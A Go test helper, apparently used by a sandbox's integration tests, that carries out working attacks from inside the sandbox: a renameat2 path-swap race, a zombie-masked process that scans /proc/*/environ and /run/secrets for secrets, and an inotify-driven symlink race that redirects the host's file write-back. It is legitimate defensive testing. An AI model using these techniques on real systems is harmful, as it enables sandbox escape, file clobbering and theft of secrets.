// Command attack is what the integration tests run inside a sandbox to attack it:
// moves the shell tools do not have. It is built by the tests (static, for every
// image) and placed in the project.
//
//	attack exchange A B STOP   swap A and B (renameat2 RENAME_EXCHANGE) every 10 ms
//	                           until the file STOP exists; prints "swapping" first
//	attack linger OUT MARKER   outlive the session: the leader thread exits while
//	                           another thread keeps reading every /proc/*/environ and
//	                           /run/secrets/* for MARKER, appending what it finds to OUT
//	attack puttemp DIR NAME TARGET PAD STOP
//	                           race the host's put back of DIR/NAME: append PAD bytes of
//	                           comment lines to DIR/NAME (the version the host will
//	                           write back, long to write), then watch DIR (inotify) and
//	                           rename a symlink to TARGET over every other name created
//	                           there, until the file STOP exists; prints "armed" first,
//	                           "planted" each time NAME is found to be that symlink
//	                           after the host made it, and "swaps=N planted=M" last
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() { runtime.LockOSThread() } // main runs on the leader thread

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack exchange|linger ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "exchange":
		exchange(os.Args[2], os.Args[3], os.Args[4])
	case "linger":
		linger(os.Args[2], os.Args[3])
	case "puttemp":
		pad, _ := strconv.Atoi(os.Args[5])
		puttemp(os.Args[2], os.Args[3], os.Args[4], pad, os.Args[6])
	default:
		os.Exit(2)
	}
}

func exchange(a, b, stop string) {
	fmt.Println("swapping")
	deadline := time.Now().Add(5 * time.Minute)
	for time.Now().Before(deadline) {
		if _, err := os.Lstat(stop); err == nil {
			return
		}
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Fprintln(os.Stderr, "exchange:", err)
			os.Exit(1)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func linger(out, marker string) {
	_, _ = syscall.Setsid()
	go func() {
		for start := time.Now(); time.Since(start) < 5*time.Minute; time.Sleep(20 * time.Millisecond) {
			var found []string
			files, _ := filepath.Glob("/proc/[0-9]*/environ")
			secrets, _ := filepath.Glob("/run/secrets/*")
			for _, f := range append(files, secrets...) {
				if b, err := os.ReadFile(f); err == nil && strings.Contains(string(b), marker) {
					found = append(found, f)
				}
			}
			if len(found) > 0 {
				if f, err := os.OpenFile(out, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644); err == nil {
					fmt.Fprintf(f, "%s %s\n", marker, strings.Join(found, " "))
					f.Close()
				}
			}
		}
	}()
	time.Sleep(100 * time.Millisecond) // let the reader start on another thread
	// Only this thread ends: the process lives on, shown as a zombie ("Z").
	syscall.RawSyscall(syscall.SYS_EXIT, 0, 0, 0)
}

func puttemp(dir, name, target string, pad int, stop string) {
	fail := func(err error) {
		fmt.Fprintln(os.Stderr, "puttemp:", err)
		os.Exit(1)
	}
	if pad > 0 {
		f, err := os.OpenFile(filepath.Join(dir, name), os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			fail(err)
		}
		line := "# " + strings.Repeat("x", 77) + "\n"
		_, err = f.WriteString(strings.Repeat(line, pad/len(line)))
		if cerr := f.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			fail(err)
		}
	}
	in, err := unix.InotifyInit1(unix.IN_CLOEXEC | unix.IN_NONBLOCK)
	if err != nil {
		fail(err)
	}
	if _, err := unix.InotifyAddWatch(in, dir, unix.IN_CREATE|unix.IN_MOVED_TO); err != nil {
		fail(err)
	}
	dfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		fail(err)
	}
	ours := map[string]bool{}
	n := 0
	link := func() string {
		n++
		l := fmt.Sprintf(".puttemp-link-%d", n)
		ours[l] = true
		if err := unix.Symlinkat(target, dfd, l); err != nil {
			fail(err)
		}
		return l
	}
	ready := link()
	fmt.Println("armed")
	swaps, planted := 0, 0
	buf := make([]byte, 64<<10)
	deadline := time.Now().Add(5 * time.Minute)
	for time.Now().Before(deadline) {
		fds := []unix.PollFd{{Fd: int32(in), Events: unix.POLLIN}}
		if k, _ := unix.Poll(fds, 100); k <= 0 {
			if _, err := os.Lstat(stop); err == nil {
				break
			}
			continue
		}
		m, err := unix.Read(in, buf)
		if err != nil {
			continue
		}
		for off := 0; off+unix.SizeofInotifyEvent <= m; {
			ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
			nb := buf[off+unix.SizeofInotifyEvent : off+unix.SizeofInotifyEvent+int(ev.Len)]
			off += unix.SizeofInotifyEvent + int(ev.Len)
			ent := strings.TrimRight(string(nb), "\x00")
			switch {
			case ent == name:
				if got, err := os.Readlink(filepath.Join(dir, name)); err == nil && got == target {
					planted++
					fmt.Println("planted")
				}
			case ours[ent]:
			case ev.Mask&unix.IN_CREATE != 0:
				// A name the host just made: put our link in its place before the
				// host renames it.
				if unix.Renameat(dfd, ready, dfd, ent) == nil {
					swaps++
					ours[ent] = true
					ready = link()
				}
			}
		}
	}
	fmt.Printf("swaps=%d planted=%d\n", swaps, planted)
}
